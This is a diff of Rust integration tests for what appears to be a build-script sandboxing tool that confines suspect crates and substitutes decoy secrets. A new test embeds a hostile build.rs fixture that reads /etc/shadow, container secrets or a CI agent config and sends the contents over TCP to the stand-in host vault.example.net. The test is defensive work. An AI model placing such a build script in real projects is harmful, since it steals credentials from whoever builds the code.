@@ -7,10 +7,11 @@ use std::time::{Duration, Instant};
 
 use cargo_brig::model::sha256;
 use nix::sys::signal::Signal;
+use nix::unistd::Uid;
 use serde_json::Value;
 
 use crate::footing::{Refusals, Step};
-use crate::place::{Place, visit};
+use crate::place::{Place, toolchain, visit};
 use crate::run::{Aim, Outcome, Run, bare, cargo};
 use crate::trying::{findings, nothing_is_touched, says};
 use crate::who::Who;
@@ -60,6 +61,9 @@ fn what_is_dropped_where_everybody_may_runs_and_is_kept() {
         for deed in COMMON.iter().chain(&["other process", "real key"]) {
             assert!(plain.stderr_text().contains(&format!("{deed}: done")), "plain cargo: no {deed}\n{plain}");
         }
+        let in_toolchain = toolchain().join("share").join(&name);
+        assert_eq!(in_toolchain.exists(), who.is_root() || !Uid::effective().is_root(), "plain cargo: the toolchain\n{plain}");
+        fs::remove_file(in_toolchain).ok();
         COMMON.iter().for_each(|dir| fs::remove_file(Path::new(dir).join(&name)).unwrap());
 
         let (place, name) = dropper(who);
@@ -72,7 +76,8 @@ fn what_is_dropped_where_everybody_may_runs_and_is_kept() {
         for deed in COMMON.iter().chain(&["key at home"]) {
             assert!(said.contains(&format!("{deed}: done")), "it did not get to {deed}\n{said}\n{outcome}");
         }
-        for deed in ["other process", "real key"] {
+        assert!(!toolchain().join("share").join(&name).exists(), "{outcome}");
+        for deed in ["other process", "real key", "toolchain"] {
             assert!(said.contains(&format!("{deed}: not done")), "it sees the {deed}\n{said}\n{outcome}");
         }
         let found = findings(&report(&evidence));
@@ -91,6 +96,42 @@ fn what_is_dropped_where_everybody_may_runs_and_is_kept() {
     }
 }
 
+/// Reads a file of the system's and sends it.
+const OF_THE_SYSTEM: &str = "use std::io::Write;\n\nfn main() {
+    let read = std::fs::read_to_string(include_str!(\"real.txt\"));
+    println!(\"cargo::warning=read: {}\", if read.is_ok() { \"done\" } else { \"not done\" });
+    let mut to = std::net::TcpStream::connect(\"vault.example.net:80\").unwrap();
+    write!(to, \"POST /x HTTP/1.0\\r\\n\\r\\n{}\", read.unwrap_or_default()).unwrap();
+}
+";
+
+#[test]
+fn secrets_of_the_system_are_decoys_where_it_would_find_some() {
+    for who in Who::all() {
+        for (ground, path) in
+            [("root", "/etc/shadow"), ("container", "/run/secrets/db_password"), ("ci", "/etc/buildkite-agent/buildkite-agent.cfg")]
+        {
+            let place = Place::new("suspects/quiet", who);
+            place.write(&place.workspace().join("real.txt"), path);
+            place.write(&place.workspace().join("build.rs"), OF_THE_SYSTEM);
+            let evidence = place.path("run/evidence");
+            let outcome = bare(&place, &["try", "--as", ground, "--evidence", evidence.to_str().unwrap(), "./"]).go();
+            outcome.exits(100);
+            nothing_is_touched(&place, &outcome, &evidence);
+            assert_eq!(shared(&evidence), Vec::<String>::new(), "{outcome}");
+            says(&outcome, &[&format!("with your `{path}`"), "proven by canary; nothing left this machine"]);
+            let found = findings(&report(&evidence));
+            assert!(found.contains(&("secret/read".to_owned(), "decoy".to_owned())), "{found:?}\n{outcome}");
+        }
+        // Whoever sits before a screen does not find any there.
+        let place = Place::new("suspects/quiet", who);
+        place.write(&place.workspace().join("real.txt"), "/etc/shadow");
+        place.write(&place.workspace().join("build.rs"), OF_THE_SYSTEM);
+        let (outcome, _, said) = tried(&place, |run| run);
+        assert!(said.contains("read: not done"), "{said}\n{outcome}");
+    }
+}
+
 /// A filter around us that lets nobody mount anything.
 #[test]
 fn without_a_tree_of_its_own_it_is_tried_and_told_so() {
@@ -101,7 +142,7 @@ fn without_a_tree_of_its_own_it_is_tried_and_told_so() {
         outcome.exits(100);
         nothing_is_touched(&place, &outcome, &evidence);
         nothing_lies_there(&name, &outcome);
-        for deed in COMMON.iter().chain(&["real key", "key at home"]) {
+        for deed in COMMON.iter().chain(&["real key", "key at home", "toolchain"]) {
             assert!(said.contains(&format!("{deed}: not done")), "it got to {deed}\n{said}\n{outcome}");
         }
         // What lies outside is refused as ever, and told.
